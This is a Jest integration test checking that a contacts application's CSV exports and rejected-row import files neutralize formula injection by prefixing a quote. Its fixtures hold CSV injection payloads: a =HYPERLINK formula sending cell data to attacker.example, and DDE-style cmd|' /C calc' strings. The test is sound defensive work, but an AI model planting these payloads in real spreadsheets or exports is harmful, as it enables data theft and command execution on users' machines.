import { afterAll, beforeAll, expect, it, jest } from '@jest/globals';
import Papa from 'papaparse';
import { describeOnQueueBackends } from '../support/queue-backends.js';
import { TestApi } from '../support/test-app.js';

/**
 * Item 8: a contact named =HYPERLINK("http://attacker.example/?d="&C2&D2,"Cliquez") was exported as is, and a
 * spreadsheet opening the file ran it (sending other cells to the attacker). Every CSV the application writes (the
 * contacts export, for Excel or not, and each import's rejected rows) now prefixes a cell that begins with = + - @,
 * a tab or a carriage return with a single quote (OWASP); a plain number such as the phone +15145550101 is left as
 * it is. NDJSON stays raw: it is not opened by a spreadsheet. An import reads the quote away, so a rejected-rows
 * file imports again as it was.
 */
jest.setTimeout(120_000);

const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&C2&D2,"Cliquez")';
const FORMULAS = {
  firstName: HYPERLINK,
  lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
  addressLine1: "-2+3+cmd|' /C calc'!A0",
  city: '+1+1',
};
const START = `mutation($format: ExportFormat!, $options: ExportOptionsInput) { startExport(format: $format, options: $options) { id } }`;
const CREATE_AUDIENCE = `mutation($input: CreateAudienceInput!) { createAudience(input: $input) { id } }`;

describeOnQueueBackends(
  (backend) => `CSV formula injection, on the ${backend} backend`,
  (env) => {
    let api: TestApi;
    let token: string;

    beforeAll(async () => {
      api = await TestApi.start({ ...env, RUN_JOBS_IN_API: 'true' });
      token = (await api.createOrganization('Injection')).token;
      await api.ok(token, `mutation($input: CreateContactInput!) { createContact(input: $input) { id } }`, {
        input: { ...FORMULAS, email: 'formules@example.org', phone: '+1 514 555 0101', tags: ['=tag'] },
      });
    });
    afterAll(() => api.close());

    const download = async (path: string) => {
      const response = await fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
      expect(response.status).toBe(200);
      return (await response.text()).replace(/^\uFEFF/, '');
    };
    /** The CSV's rows as objects, by the header's names. */
    const records = (text: string, delimiter: string) =>
      Papa.parse<Record<string, string>>(text, { delimiter, header: true, skipEmptyLines: true }).data;
    const finished = async (id: string) => {
      const run = await api.finishedRun(token, id);
      expect(run.status).toBe('SUCCEEDED');
      return run;
    };
    const importFile = async (file: string, options: Record<string, string>, path = '/imports') => {
      const upload = await api.upload(token, file, options, path);
      expect(upload.status).toBe(202);
      return finished(upload.body.jobRunId);
    };

    it('neutralizes formula-like cells in CSV and CSV-for-Excel exports, leaving a phone as it is, and NDJSON raw', async () => {
      for (const [options, delimiter] of [
        [{}, ','],
        [{ excel: true }, ';'],
      ] as const) {
        const { startExport } = await api.ok<any>(token, START, { format: 'CSV', options });
        const [contact] = records(await download((await finished(startExport.id)).downloadPath), delimiter);
        expect(contact).toMatchObject({
          first_name: `'${FORMULAS.firstName}`,
          last_name: `'${FORMULAS.lastName}`,
          address_line1: `'${FORMULAS.addressLine1}`,
          city: `'${FORMULAS.city}`,
          tags: "'=tag",
          email: 'formules@example.org',
          phone: '+15145550101',
        });
      }
      const { startExport } = await api.ok<any>(token, START, { format: 'NDJSON' });
      const [contact] = (await download((await finished(startExport.id)).downloadPath))
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(contact).toMatchObject({ ...FORMULAS, tags: ['=tag'], phone: '+15145550101' });
    });

    it('neutralizes the rejected rows of a contacts import (header included), and their fixed file imports the values back', async () => {
      const file = `Prénom;Nom;Courriel;=Remarque\n${HYPERLINK};-Tremblay;pas-un-courriel;@note\n`;
      // strict (invalidFields=REJECT): the bad email refuses the row (by default it would be imported without it)
      const run = await importFile(file, { dedup: 'false', invalidFields: 'REJECT' });
      expect(run.counts).toMatchObject({ rows: 1, invalid: 1 });
      const text = await download(run.downloadPath);
      const [header, row] = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true }).data;
      expect(header).toEqual(['Prénom', 'Nom', 'Courriel', "'=Remarque", 'error']);
      expect(row).toEqual([
        `'${HYPERLINK}`,
        "'-Tremblay",
        'pas-un-courriel',
        "'@note",
        'Courriel: not a valid email address',
      ]);

      const again = await importFile(text.replace('pas-un-courriel', 'hyperlien@example.org'), { dedup: 'false' });
      expect(again.counts).toMatchObject({ rows: 1, invalid: 0, created: 1 });
      const { contacts } = await api.ok<any>(
        token,
        `{ contacts(first: 5, filter: { search: "hyperlien@example.org" }) { edges { node { firstName lastName } } } }`,
      );
      expect(contacts.edges).toEqual([{ node: { firstName: HYPERLINK, lastName: '-Tremblay' } }]);
    });

    it('neutralizes the rejected rows of an interactions import and of an audience members import', async () => {
      const sales = await importFile(
        `No client;Date;Spectacle;Type\n@C1;2025-02-30;=1+1;Don\n`,
        { source: 'billetterie' },
        '/imports/interactions',
      );
      const [, sale] = Papa.parse<string[]>(await download(sales.downloadPath), {
        delimiter: ';',
        skipEmptyLines: true,
      }).data;
      expect(sale.slice(0, 3)).toEqual(["'@C1", '2025-02-30', "'=1+1"]);

      const { createAudience } = await api.ok<any>(token, CREATE_AUDIENCE, {
        input: { name: 'Liste', kind: 'STATIC' },
      });
      const members = await importFile(
        `no client;note\n+cmd|' /C calc'!A0;=HYPERLINK("x")\n`,
        { source: 'billetterie' },
        `/audiences/${createAudience.id}/members`,
      );
      const [, member] = Papa.parse<string[]>(await download(members.downloadPath), {
        delimiter: ';',
        skipEmptyLines: true,
      }).data;
      expect(member.slice(0, 2)).toEqual(["'+cmd|' /C calc'!A0", `'=HYPERLINK("x")`]);
    });
  },
);
